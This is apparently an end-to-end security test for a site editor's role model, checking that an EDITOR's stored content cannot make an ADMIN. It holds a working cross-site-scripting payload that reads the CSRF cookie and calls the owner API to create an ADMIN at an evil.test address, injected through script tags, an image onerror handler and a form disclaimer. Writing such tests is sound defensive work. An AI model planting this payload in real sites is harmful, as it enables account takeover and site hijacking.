import AxeBuilder from '@axe-core/playwright';
import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { request as apiRequest, type APIRequestContext, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchChromium } from './support/browser.ts';
import { ADMIN, signInOwner } from './support/owner.ts';

const baseURL = inject('baseURL');
const SCREENSHOTS = 'screenshots';
const RUN = Date.now().toString(36);
const EDITOR = { email: `editor-${RUN}@privilege.test`, password: 'an-editor-password' };
const SCRIPTS_REMOVED = 'Scripts and embedded code are removed when you save: only an administrator can add them.';

/**
 * Serious and critical WCAG A/AA violations of the dashboard screen (the preview frame holds the
 * storefront's page, audited elsewhere; CodeMirror's own colours and scroller are the code
 * editor's, not this screen's: noted in issue 36's report).
 */
async function violations(page: Page): Promise<string[]> {
  const results = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa']).exclude('iframe').exclude('.cm-editor').analyze();
  return results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').flatMap((v) => v.nodes.map((node) => `${v.id} ${node.target.join(' ')}: ${v.help}`));
}

/** An owner API client signed in as `who` (its own cookies and crumb, no browser). */
async function ownerApi(who: { email: string; password: string }) {
  const context = await apiRequest.newContext({ baseURL });
  await context.get('/config');
  const crumb = async () => (await context.storageState()).cookies.find((cookie) => cookie.name === 'crumb')!.value;
  const call = async (method: string, url: string, data?: unknown) => {
    const response = await context.fetch(url, { method, data, headers: { 'x-csrf-token': await crumb() } });
    if (!response.ok()) throw new Error(`${method} ${url} answered ${response.status()}: ${await response.text()}`);
    return response.status() === 204 ? null : ((await response.json()) as Record<string, any>);
  };
  await call('POST', '/api/owner/session', who);
  return { context, call };
}

/**
 * Issue 36, item 1: an EDITOR cannot take the site. The EDITOR puts a script that calls the owner
 * API to make an ADMIN (and a beacon to a listener of the test) in a code block, in a JavaScript
 * code block, in an image's onerror and in a form's disclaimer; publishes one page and leaves
 * another as a draft. An ADMIN then opens the published page on the site and the draft in the
 * editor: no contributor is made and nothing is called. And the editor's preview is sandboxed: a
 * draft whose script is kept (an ADMIN's, or one saved before the server sanitised) runs there
 * without the owner's session, so its call to the owner API fails too.
 */
describe('content from one role cannot act as another', () => {
  let browser: Browser;
  let admin: Awaited<ReturnType<typeof ownerApi>>;
  let editor: Awaited<ReturnType<typeof ownerApi>>;
  let listener: Server;
  let beaconBase = '';
  const beacons: string[] = [];
  let editorId = '';
  let formId = '';
  const pages: Record<'published' | 'draft' | 'kept' | 'tall', { id: string; fullUrl: string }> = {} as never;

  /** The attack: read the crumb, ask the owner API for a new ADMIN, and tell the listener what happened. */
  const attack = (from: string) =>
    `(function(){var b=function(w){try{fetch(${JSON.stringify(`${beaconBase}/beacon?from=${from}&`)}+w,{mode:'no-cors'})}catch(e){}};b('ran');` +
    `var c='';try{c=(document.cookie.match(/(?:^|; )crumb=([^;]+)/)||[])[1]||''}catch(e){b('no-cookie')}` +
    `fetch('/api/owner/contributors',{method:'POST',credentials:'include',headers:{'content-type':'application/json','x-csrf-token':c},` +
    `body:JSON.stringify({email:'taken-${from}-${RUN}@evil.test',role:'ADMIN',password:'taken-over-the-site'})})` +
    `.then(function(r){b('status='+r.status)},function(){b('failed')})})()`;
  const attackHtml = (from: string) => `<p>Opening hours</p><script>${attack(`${from}-script`)}</script><img src="/nowhere.png" alt="" onerror="${attack(`${from}-onerror`).replace(/"/g, '&quot;')}">`;
  const codeBlocks = (from: string) => [
    { id: `${from}-html`, type: 'code', language: 'html', display: 'render', source: attackHtml(from) },
    { id: `${from}-js`, type: 'code', language: 'javascript', display: 'render', source: attack(`${from}-js`) },
  ];
  const document = (...blocks: unknown[]) => ({ version: 1, sections: [{ id: 's1', blocks }] });

  async function newPage(owner: typeof admin, title: string, blocks: unknown[], publish: boolean) {
    const { page } = (await owner.call('POST', '/api/owner/pages', { title: `${title} ${RUN}` }))!;
    await owner.call('PUT', `/api/owner/editor/pages/${page.id}/document`, { document: document(...blocks), baseRevision: 0 });
    if (publish) await owner.call('POST', `/api/owner/editor/pages/${page.id}/publish`, { revision: 1 });
    return { id: page.id as string, fullUrl: page.fullUrl as string };
  }

  const contributors = async () => ((await admin.call('GET', '/api/owner/contributors'))!.contributors as Array<{ email: string; role: string }>).map((c) => `${c.email} ${c.role}`);

  /** Every request a page (and its frames) makes, as `METHOD url`. */
  function recordRequests(page: Page): string[] {
    const seen: string[] = [];
    page.on('request', (request) => seen.push(`${request.method()} ${request.url()}`));
    return seen;
  }

  beforeAll(async () => {
    mkdirSync(SCREENSHOTS, { recursive: true });
    listener = createServer((request, response) => {
      beacons.push(request.url ?? '');
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    beaconBase = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

    admin = await ownerApi(ADMIN);
    editorId = (await admin.call('POST', '/api/owner/contributors', { email: EDITOR.email, name: 'Eddie Editor', role: 'EDITOR', password: EDITOR.password }))!.contributor.id;
    editor = await ownerApi(EDITOR);

    // The EDITOR's form, its disclaimer carrying the attack, placed on the published page.
    const form = (await editor.call('POST', '/api/owner/forms', { name: `Contact ${RUN}`, fields: [{ id: 'email', type: 'email', title: 'Email', required: true }], parsedDisclaimerMessage: attackHtml('editor-disclaimer') }))!.form;
    formId = form.id;
    pages.published = await newPage(editor, 'Editor published', [...codeBlocks('editor-published'), { id: 'form', type: 'form', formId }], true);
    pages.draft = await newPage(editor, 'Editor draft', codeBlocks('editor-draft'), false);
    // A draft whose script is kept as written (an ADMIN's; or an EDITOR's saved before the server sanitised).
    pages.kept = await newPage(admin, 'Kept script', codeBlocks('kept'), false);

    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    // Leave the shared server as it was: the pages go, the EDITOR keeps no role (contributors and forms cannot be deleted).
    for (const page of Object.values(pages)) await admin?.call('DELETE', `/api/owner/pages/${page.id}`).catch(() => {});
    if (formId) await admin?.call('PUT', `/api/owner/forms/${formId}`, { name: `Contact ${RUN} (privilege test)`, fields: [], parsedDisclaimerMessage: '' }).catch(() => {});
    if (editorId) await admin?.call('PATCH', `/api/owner/contributors/${editorId}`, { role: 'NONE' }).catch(() => {});
    await admin?.context.dispose();
    await editor?.context.dispose();
    await new Promise((resolve) => listener?.close(resolve));
  });

  it("stores the EDITOR's HTML sanitised: the script, the handler and the running JavaScript are gone", async () => {
    const draft = (await editor.call('GET', `/api/owner/editor/pages/${pages.draft.id}/document`))!.document.sections[0].blocks;
    expect(draft).toMatchObject([{ source: '<p>Opening hours</p><img src="/nowhere.png" alt="" />' }, { source: '' }]);
    const form = (await editor.call('GET', `/api/owner/forms/${formId}`))!.form;
    expect(form.parsedDisclaimerMessage).toBe('<p>Opening hours</p><img src="/nowhere.png" alt="" />');
  });

  it('an ADMIN opening the published page on the site makes no contributor and calls nothing', async () => {
    const before = await contributors();
    const context = await browser.newContext({ baseURL });
    const page = await context.newPage();
    await signInOwner(page, '/config/pages');
    const requests = recordRequests(page);
    await page.goto(pages.published.fullUrl);
    await page.getByText('Opening hours').first().waitFor();
    // The form (with its disclaimer) is on the page, hydrated as for any visitor.
    await page.locator('.plinth-form__disclaimer').first().waitFor();
    await page.waitForLoadState('networkidle');
    // The site may ask who is signed in (GET …/session); nothing may write to the owner API or reach the listener.
    expect(requests.filter((line) => (line.includes('/api/owner/') && !line.startsWith('GET ')) || line.includes('/api/owner/contributors') || line.includes(beaconBase))).toEqual([]);
    expect(beacons.filter((url) => url.includes('editor-'))).toEqual([]);
    expect(await contributors()).toEqual(before);
    await context.close();
  });

  it("an ADMIN opening the EDITOR's draft in the editor makes no contributor and calls nothing; the frame is sandboxed", async () => {
    const before = await contributors();
    const context = await browser.newContext({ baseURL, viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    await signInOwner(page, '/config/pages');
    const requests = recordRequests(page);
    await page.goto(`/config/pages/${pages.draft.id}/edit`);
    // The editor opens on the editing surface (no scripts run there); the sandboxed preview is one click away.
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    const frame = page.locator('iframe.editor-preview__frame');
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts allow-forms allow-popups allow-popups-to-escape-sandbox');
    await page.frameLocator('iframe.editor-preview__frame').getByText('Opening hours').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(requests.filter((line) => line.includes('/api/owner/contributors') || line.includes(beaconBase))).toEqual([]);
    expect(beacons.filter((url) => url.includes('editor-'))).toEqual([]);
    // No notice for an ADMIN: their code is kept as written.
    await page.getByRole('button', { name: /^1\. Code/ }).click();
    await page.getByRole('group', { name: /^Code block 1 settings$/ }).waitFor();
    expect(await page.getByText(SCRIPTS_REMOVED).count()).toBe(0);
    expect(await contributors()).toEqual(before);
    await context.close();
  });

  it('a draft whose script is kept runs in the preview without the owner session: its call to the owner API fails', async () => {
    const before = await contributors();
    const context = await browser.newContext({ baseURL, viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    await signInOwner(page, '/config/pages');
    await page.goto(`/config/pages/${pages.kept.id}/edit`);
    // The editor opens on the editing surface (no scripts run there); the sandboxed preview is one click away.
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    await page.frameLocator('iframe.editor-preview__frame').getByText('Opening hours').first().waitFor();
    // The scripts ran (the beacon heard them), on an opaque origin: no cookie to read, and the call got nowhere.
    await expect.poll(() => beacons.filter((url) => url.includes('from=kept-script')), { timeout: 15_000 }).toEqual(expect.arrayContaining([expect.stringContaining('&ran'), expect.stringContaining('&no-cookie')]));
    await expect.poll(() => beacons.filter((url) => url.includes('from=kept-script') && /&(failed|status=)/.test(url)), { timeout: 15_000 }).toHaveLength(1);
    const outcome = beacons.find((url) => url.includes('from=kept-script') && /&(failed|status=)/.test(url))!;
    expect(outcome).not.toMatch(/status=2\d\d/);
    expect(await contributors()).toEqual(before);
    expect((await contributors()).some((line) => line.includes('@evil.test'))).toBe(false);
    await context.close();
  });

  it('the sandboxed preview still follows the typing and keeps its scroll position across saves (postMessage)', async () => {
    const spacer = (id: string) => ({ id, type: 'spacer', height: 400 });
    pages.tall = await newPage(admin, 'Tall', [{ id: 'h', type: 'heading', text: 'Top of the page', level: 2, align: 'left' }, spacer('a'), spacer('b'), spacer('c'), spacer('d')], false);
    const context = await browser.newContext({ baseURL, viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    const consoleErrors: string[] = [];
    page.on('console', (message) => message.type() === 'error' && consoleErrors.push(message.text()));
    await signInOwner(page, '/config/pages');
    await page.goto(`/config/pages/${pages.tall.id}/edit`);
    // The editor opens on the editing surface (no scripts run there); the sandboxed preview is one click away.
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    const preview = () => page.frames().find((frame) => frame.url().includes(`/api/owner/editor/pages/${pages.tall.id}/preview`))!;
    await expect.poll(() => preview()?.getByText('Top of the page').count(), { timeout: 15_000 }).toBe(1);
    await preview().evaluate(() => window.scrollTo(0, 700));
    // The preview tells the editor where it is (after a short pause in the scrolling).
    await page.waitForTimeout(600);
    await page.getByRole('button', { name: /^1\. Heading/ }).click();
    await page.getByLabel('Heading text').fill('Still at the same place');
    await expect.poll(() => preview()?.getByText('Still at the same place').count(), { timeout: 15_000 }).toBe(1);
    await expect.poll(() => preview().evaluate(() => window.scrollY), { timeout: 5_000 }).toBe(700);
    // Back leaves the editor: the reloads made no history entries.
    expect(await page.evaluate(() => history.length)).toBe(3);
    expect(consoleErrors.filter((text) => !text.includes('Failed to load resource'))).toEqual([]);
    await context.close();
  });

  it('tells the EDITOR, beside the code, that scripts are removed when they save', async () => {
    const context = await browser.newContext({ baseURL, viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    await page.goto('/config/login');
    await page.getByLabel('E-mail').fill(EDITOR.email);
    await page.getByLabel('Password').fill(EDITOR.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL((url) => !url.pathname.endsWith('/login'));
    await page.goto(`/config/pages/${pages.draft.id}/edit`);
    // The editor opens on the editing surface (no scripts run there); the sandboxed preview is one click away.
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    await page.getByRole('button', { name: /^1\. Code/ }).click();
    const settings = page.getByRole('group', { name: /^Code block 1 settings$/ });
    await settings.getByRole('note').filter({ hasText: SCRIPTS_REMOVED }).waitFor();
    await page.frameLocator('iframe.editor-preview__frame').getByText('Opening hours').first().waitFor();
    await page.screenshot({ path: `${SCREENSHOTS}/privilege-editor-notice.png` });
    expect(await violations(page)).toEqual([]);

    await page.goto(`/config/forms/${formId}`);
    await page.getByRole('note').filter({ hasText: SCRIPTS_REMOVED }).waitFor();
    const disclaimer = page.getByLabel('Disclaimer (HTML, under the form)');
    expect(await disclaimer.getAttribute('aria-describedby')).toBe('form-html-notice');
    await disclaimer.scrollIntoViewIfNeeded();
    await page.screenshot({ path: `${SCREENSHOTS}/privilege-form-notice.png` });
    expect(await violations(page)).toEqual([]);
    await context.close();
  });
});
